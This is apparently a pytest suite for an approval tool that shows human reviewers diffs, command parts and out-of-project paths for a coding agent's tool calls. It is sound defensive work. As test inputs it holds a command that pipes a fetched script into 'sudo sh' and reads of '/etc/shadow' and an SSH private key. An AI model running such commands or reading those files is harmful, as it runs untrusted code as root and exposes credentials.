"""What helps to read a coding agent's call: which aids there are, and what they say."""

from __future__ import annotations

import dataclasses
import json
from typing import Any

import pytest

from approval_tui.display.reading_aids import (
    ADDED,
    MARK,
    MOST_FILES,
    MOST_PARTS,
    NOTE,
    PLAIN,
    REMOVED,
    SHELL_TOOLS,
    AidRow,
    has_reading_aids,
)
from approval_tui.display.unified_diff import MOST_LINES
from approval_tui.domain.coding_agents import CODEX, CODING_AGENTS
from approval_tui.domain.models import Request
from tests.display.agent_calls import (
    CANNOT_BE_TOLD,
    CHANGED,
    FILE,
    NOT_COMPARED,
    OUTSIDE,
    PARTS,
    PATHS,
    PROJECT,
    TEXT,
    Disk,
    Found,
    agent_call,
    aids_of,
    apply_patch,
    bash,
    edit,
    rows_of,
    told,
)

# --- which aids there are ----------------------------------------------------------------------


def test_an_edit_shows_the_path_and_the_diff_against_the_file_on_disk() -> None:
    (aid,) = aids_of(edit(), Disk({FILE: TEXT}))
    assert aid.title == CHANGED
    assert aid.rows == (
        AidRow("│ ", FILE, PLAIN),
        AidRow("", "@@ -1,3 +1,3 @@", NOTE),
        AidRow("  ", "one", PLAIN),
        AidRow("- ", "two", REMOVED),
        AidRow("+ ", "2", ADDED),
        AidRow("  ", "three", PLAIN),
    )


NOTEBOOK = json.dumps({"cells": [{"cell_type": "code", "source": "x = 1", "outputs": [1]}]})

DIFFS: list[tuple[str, Request, str | None, list[str]]] = [
    (
        "MultiEdit",
        agent_call(
            "MultiEdit",
            {
                "file_path": "f.py",
                "edits": [
                    {"old_string": "one", "new_string": "1"},
                    {"old_string": "three", "new_string": "3"},
                ],
            },
        ),
        TEXT,
        ["- one", "+ 1", "  two", "- three", "+ 3"],
    ),
    (
        "Write over a file",
        agent_call("Write", {"file_path": FILE, "content": "one\n"}),
        TEXT,
        ["  one", "- two", "- three"],
    ),
    (
        "Write of a new file",
        agent_call("Write", {"file_path": FILE, "content": "one"}),
        None,
        ["the file is new", "@@ -0,0 +1 @@", "+ one", "no newline at the end of the file"],
    ),
    (
        "Write that changes the ends of lines alone",
        agent_call("Write", {"file_path": FILE, "content": "one\r\n"}),
        "one\n",
        ["- one", "+ one\\u{D}"],
    ),
    (
        "Write that changes a blank at the end of a line alone",
        agent_call("Write", {"file_path": FILE, "content": "one \n"}),
        "one\n",
        ["- one", "+ one\\u{20}"],
    ),
    (
        "NotebookEdit",
        agent_call("NotebookEdit", {"notebook_path": FILE, "cell_id": "cell-0", "new_source": "x = 2"}),
        NOTEBOOK,
        [
            "only the sources of the notebook's cells are compared",
            "the outputs of the cell are removed",
            "  # cell cell-0 (code)",
            "-   x = 1",
            "+   x = 2",
        ],
    ),
    (
        "apply_patch that updates",
        apply_patch("*** Update File: f.py", "@@", "-two", "+2"),
        TEXT,
        ["- two", "+ 2"],
    ),
    (
        "apply_patch that adds over a file",
        apply_patch("*** Add File: f.py", "+2"),
        "1\n",
        ["the file is there already, and is replaced", "- 1", "+ 2"],
    ),
    (
        "apply_patch that deletes",
        apply_patch("*** Delete File: f.py"),
        "1\n",
        ["the file is deleted", "- 1"],
    ),
]


@pytest.mark.parametrize(("request_", "before", "expected"), [pytest.param(*rest, id=name) for name, *rest in DIFFS])
def test_every_editing_tool_has_its_diff(request_: Request, before: str | None, expected: list[str]) -> None:
    (aid,) = aids_of(request_, Disk({} if before is None else {FILE: before}))
    assert aid.title == CHANGED
    lines = iter(told((aid,)))
    assert [row for row in expected if row not in lines] == []


def test_every_file_of_a_patch_has_an_aid_of_its_own_in_the_order_of_the_patch() -> None:
    request = apply_patch(
        *("*** Add File: new.py", "+x"),
        *("*** Delete File: f.py",),
        *("*** Update File: g.py", "*** Move to: h.py", "@@", "-a", "+b"),
    )
    aids = aids_of(request, Disk({FILE: "one\n", "/work/g.py": "a\n"}))
    assert [aid.title for aid in aids] == [CHANGED] * 3
    assert [aid.rows[0] for aid in aids] == [AidRow("│ ", name, PLAIN) for name in ("new.py", "f.py", "g.py")]
    assert aids[2].rows[1:3] == (AidRow("", "and is moved to", NOTE), AidRow("│ ", "h.py", PLAIN))


def test_of_very_many_files_the_rest_is_counted() -> None:
    many = [line for number in range(MOST_FILES + 7) for line in (f"*** Add File: {number}", "+x")]
    *aids, last = aids_of(apply_patch(*many))
    assert len(aids) == MOST_FILES
    assert (last.title, last.rows) == ("further files", (AidRow("", "7 more, which the arguments show", NOTE),))


def test_of_very_many_rows_the_rest_is_counted() -> None:
    (aid,) = aids_of(agent_call("Write", {"file_path": FILE, "content": "x\n" * (MOST_LINES + 100)}))
    assert len(aid.rows) == MOST_LINES + 2
    assert "more rows are not shown here; the arguments show the new text whole" in aid.rows[-1].text


def test_a_command_shows_its_parts_each_below_its_marks() -> None:
    (aid,) = aids_of(bash("cd src && curl -s https://x.example | sudo sh > /etc/x; ls"))
    assert aid.title == PARTS
    assert aid.rows == (
        AidRow("│ ", "cd src", PLAIN),
        AidRow("", "network", MARK),
        AidRow("│ ", " && curl -s https://x.example", PLAIN),
        AidRow("", "pipe, sudo, runs what it is given", MARK),
        AidRow("│ ", " | sudo sh", PLAIN),
        AidRow("", "writes to a file", MARK),
        AidRow("", 'outside the project: "/etc/x"', MARK),
        AidRow("│ ", " > /etc/x", PLAIN),
        AidRow("│ ", "; ls", PLAIN),
    )


@pytest.mark.parametrize("command", ["", "ls", "make deploy", "\n"])
def test_a_command_of_one_part_without_a_mark_has_no_aid(command: str) -> None:
    assert aids_of(bash(command)) == ()


def test_of_very_many_parts_the_rest_is_counted() -> None:
    (aid,) = aids_of(bash("ls;" * (MOST_PARTS + 5)))
    assert sum(row.lead == "│ " for row in aid.rows) == MOST_PARTS
    assert aid.rows[-1].role == NOTE
    assert aid.rows[-1].text.endswith("more parts, which the arguments show")


@pytest.mark.parametrize("tool", [*SHELL_TOOLS, "Bash", "SHELL"])
@pytest.mark.parametrize("server", [None, "elsewhere", *CODING_AGENTS])
@pytest.mark.parametrize("key", ["command", "cmd"])
def test_the_parts_of_a_command_are_shown_for_every_shell_whosoever_it_is(
    tool: str, server: str | None, key: str
) -> None:
    request = agent_call(tool, {key: "ls | sh"}, server=server)
    assert has_reading_aids(request)
    assert [aid.title for aid in aids_of(request)] == [PARTS]


@pytest.mark.parametrize("status", ["pending", "approved", "denied", "expired", "cancelled", "consumed"])
def test_the_parts_of_a_command_are_shown_whatever_became_of_it(status: str) -> None:
    assert [aid.title for aid in aids_of(bash("ls | sh", status=status))] == [PARTS]


@pytest.mark.parametrize(("status", "is_shown"), [
    ("pending", True), ("approved", True), ("denied", False), ("expired", False), ("cancelled", False),
    ("consumed", False),
])  # fmt: skip
@pytest.mark.parametrize("name", [name for name, *_ in DIFFS])
def test_files_are_compared_only_while_the_call_can_still_run(name: str, status: str, is_shown: bool) -> None:
    (request, before) = next((request, before) for each, request, before, _ in DIFFS if each == name)
    disk = Disk({} if before is None else {FILE: before})
    aids = aids_of(agent_call(request.tool, request.arguments, server=request.server, status=status), disk)
    assert bool(aids) == is_shown
    assert bool(disk.reads) == is_shown


@pytest.mark.parametrize("server", [None, "", "Claude-Code", "claude-code ", "elsewhere", "claude‐code"])
def test_no_file_is_looked_at_for_tools_of_other_servers_whatever_their_names(server: str | None) -> None:
    disk = Disk({FILE: TEXT})
    for _, request, _, _ in DIFFS:
        other = agent_call(request.tool, request.arguments, server=server)
        assert not has_reading_aids(other)
        assert aids_of(other, disk) == ()
    assert aids_of(agent_call("Read", {"file_path": "/etc/shadow"}, server=server), disk) == ()
    assert disk.reads == []


@pytest.mark.parametrize(
    ("arguments", "rows"),
    [
        ({"file_path": "/etc/shadow"}, [f"file_path: {OUTSIDE}"]),
        ({"file_path": "~/.ssh/id_ed25519"}, [f"file_path: {OUTSIDE}"]),
        ({"file_path": "../x", "path": "$HOME"}, [f"file_path: {OUTSIDE}", f"path: {CANNOT_BE_TOLD}"]),
        ({"pattern": "x", "path": "/work/../work2"}, [f"path: {OUTSIDE}"]),
        ({"file_path": "f.py"}, []),
        ({"file_path": FILE, "path": PROJECT}, []),
        ({"file_path": ["/etc/shadow"], "path": None, "cwd": 1, "directory": {}}, []),
        ({}, []),
    ],
)
def test_other_tools_of_an_agent_say_which_paths_lead_outside(arguments: dict[str, Any], rows: list[str]) -> None:
    disk = Disk({})
    aids = aids_of(agent_call("Read", arguments), disk)
    assert [aid.title for aid in aids] == ([PATHS] if rows else [])
    assert rows_of(aids) == [AidRow("", row, MARK) for row in rows]
    assert disk.reads == []


# --- what is said of a file --------------------------------------------------------------------


@pytest.mark.parametrize(
    "problem",
    [
        "it is a folder",
        "it is a pipe",
        "it is not text in UTF-8",
        "too large to be compared here (9,999,999 bytes)",
        "permission denied",
    ],
)
def test_a_file_that_cannot_be_compared_says_why_and_shows_no_diff(problem: str) -> None:
    (aid,) = aids_of(edit(), Disk({FILE: Found(None, problem)}))
    assert told((aid,)) == [NOT_COMPARED, f"│ {FILE}", f"{problem}; nothing is compared here"]
    assert aid.rows[-1].role == NOTE


def test_an_edit_of_a_file_that_is_not_there_says_so() -> None:
    (aid,) = aids_of(edit())
    assert told((aid,)) == [NOT_COMPARED, f"│ {FILE}", "it cannot be done: there is no such file"]
    assert aid.rows[-1].role == MARK


def test_a_new_file_in_a_folder_that_is_not_there_says_both() -> None:
    (aid,) = aids_of(agent_call("Write", {"file_path": "/work/no/f", "content": "x\n"}))
    assert told((aid,))[2:4] == ["its folder is not there either", "the file is new"]


def test_an_edit_that_does_not_fit_the_file_says_why() -> None:
    (aid,) = aids_of(edit("four"), Disk({FILE: TEXT}))
    assert told((aid,))[-1] == "it cannot be done: the text to replace is not in the file"


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/etc/f", [OUTSIDE]),
        ("../f", [OUTSIDE]),
        ("/work/../etc/f", [OUTSIDE]),
        ("/work/a/../f", []),
        ("//work/f", []),
    ],
)
def test_a_file_outside_the_project_is_marked(path: str, expected: list[str]) -> None:
    (aid,) = aids_of(agent_call("Write", {"file_path": path, "content": "x\n"}))
    assert [row.text for row in aid.rows if row.role == MARK] == expected


@pytest.mark.parametrize("path", ["", "~/f", " /work/f", "/work/f\n", "/work/\0"])
@pytest.mark.parametrize("working_directory", [PROJECT, None])
def test_a_path_that_the_agent_may_take_for_another_is_not_looked_up(path: str, working_directory: str | None) -> None:
    disk = Disk({FILE: TEXT})
    aids = aids_of(edit(path=path, context={"working_directory": working_directory}), disk)
    assert disk.reads == []
    assert [aid.title for aid in aids] == [NOT_COMPARED]


@pytest.mark.parametrize(
    "context",
    [
        {},
        {"working_directory": None},
        {"working_directory": ""},
        {"working_directory": "work"},
        {"working_directory": "../work"},
        {"working_directory": ["/work"]},
        {"working_directory": {"/work": "/work"}},
        {"working_directory": 1},
        {"working_directory": "/work\0"},
    ],
)
def test_without_a_folder_that_is_known_a_relative_path_leads_nobody_knows_where(context: dict[str, Any]) -> None:
    disk = Disk({FILE: TEXT})
    aids = aids_of(edit(path="f.py", context=context), disk)
    assert told(aids) == [
        NOT_COMPARED,
        "│ f.py",
        CANNOT_BE_TOLD,
        "where it is cannot be told; nothing is compared here",
    ]
    assert disk.reads == []


@pytest.mark.parametrize(
    ("path", "links", "expected"),
    [
        ("/work/f.py", {"/work/f.py": "/etc/f"}, ["│ /etc/f", OUTSIDE]),
        ("/work/a/f.py", {"/work/a": "/etc"}, ["│ /etc/f.py", OUTSIDE]),
        ("/work/f.py", {"/work/f.py": "/work/g.py"}, ["│ /work/g.py"]),
        ("/tmp/f.py", {"/tmp": "/work"}, ["│ /work/f.py"]),
        ("/work/f.py", {"/work": "/srv/work"}, None),
        ("f.py", {"/work": "/srv/work"}, None),
        ("/work/a/f.py", {"/work": "/srv/work", "/work/a": "/etc"}, ["│ /etc/f.py", OUTSIDE]),
        ("/work/a/f.py", {"/work": "/srv/work", "/work/a": "/srv/work/b"}, ["│ /srv/work/b/f.py"]),
    ],
)
def test_a_link_on_the_way_is_said_with_where_it_leads_but_not_the_one_to_the_project_itself(
    path: str, links: dict[str, str], expected: list[str] | None
) -> None:
    (aid,) = aids_of(agent_call("Write", {"file_path": path, "content": "x\n"}), Disk({}, links))
    lines = told((aid,))
    if expected is None:
        assert "a link on the way leads to" not in lines
        assert OUTSIDE not in lines
    else:
        begin = lines.index("a link on the way leads to")
        assert lines[begin + 1 : begin + 1 + len(expected)] == expected
        assert lines.count(OUTSIDE) == expected.count(OUTSIDE) + path.startswith("/tmp")


def test_a_file_that_is_moved_onto_another_says_so() -> None:
    lines = ("*** Update File: f.py", "*** Move to: g.py", "@@", "-two", "+2")
    assert "something is there already" in told(aids_of(apply_patch(*lines), Disk({FILE: TEXT, "/work/g.py": ""})))
    for other in (Found(None, "it is not text in UTF-8"), Found(None, "it is a folder")):
        assert "something is there already" in told(
            aids_of(apply_patch(*lines), Disk({FILE: TEXT, "/work/g.py": other}))
        )
    assert "something is there already" not in told(aids_of(apply_patch(*lines), Disk({FILE: TEXT})))


def test_a_file_that_is_moved_out_of_the_project_says_so() -> None:
    lines = ("*** Update File: f.py", "*** Move to: ../g.py", "@@", "-two", "+2")
    assert OUTSIDE in told(aids_of(apply_patch(*lines), Disk({FILE: TEXT})))


def test_a_patch_that_cannot_be_read_says_why() -> None:
    (aid,) = aids_of(agent_call("apply_patch", {"command": "*** Begin"}, server=CODEX))
    assert told((aid,)) == [NOT_COMPARED, "it cannot be done: line 1 of the patch is not `*** Begin Patch`"]


# --- what counts -------------------------------------------------------------------------------


def test_the_arguments_of_a_reviewer_count_and_not_those_of_the_agent() -> None:
    edited = {"file_path": FILE, "old_string": "two", "new_string": "ZWEI"}
    lines = told(aids_of(edit(edited_arguments=edited), Disk({FILE: TEXT})))
    assert "+ ZWEI" in lines
    assert "+ 2" not in lines
    assert "│  | b" in told(aids_of(bash("ls | a", edited_arguments={"command": "ls | b"})))


@pytest.mark.parametrize("tool", ["Edit", "MultiEdit", "Write", "NotebookEdit", "apply_patch"])
@pytest.mark.parametrize("arguments", [
    {}, {"file_path": FILE}, {"file_path": 1, "old_string": "a", "new_string": "b"},
    {"file_path": FILE, "content": ["x"]}, {"file_path": FILE, "edits": {}}, {"file_path": FILE, "edits": [[]]},
    {"notebook_path": FILE, "new_source": "x", "edit_mode": []}, {"command": 1}, {"command": []}, {"command": {}},
    {"file_path": FILE, "old_string": "a", "new_string": "b", "later": True},
])  # fmt: skip
def test_arguments_that_are_not_those_of_the_tool_are_said_to_be_so(tool: str, arguments: dict[str, Any]) -> None:
    disk = Disk({FILE: TEXT})
    assert told(aids_of(agent_call(tool, arguments), disk)) == [
        NOT_COMPARED,
        "the arguments are not those of this tool",
    ]
    assert disk.reads == []


@pytest.mark.parametrize(
    "broken",
    [
        dataclasses.replace(edit(), arguments_text="{"),
        dataclasses.replace(edit(), arguments_text='{"a": "\\ud800"'),
        dataclasses.replace(edit(), edited_arguments_text="nonsense"),
        dataclasses.replace(edit(), context_text="nonsense"),
        dataclasses.replace(bash("ls | sh"), context_text="["),
    ],
)
def test_what_the_store_cannot_read_has_no_aids(broken: Request) -> None:
    assert aids_of(broken, Disk({FILE: TEXT})) == ()
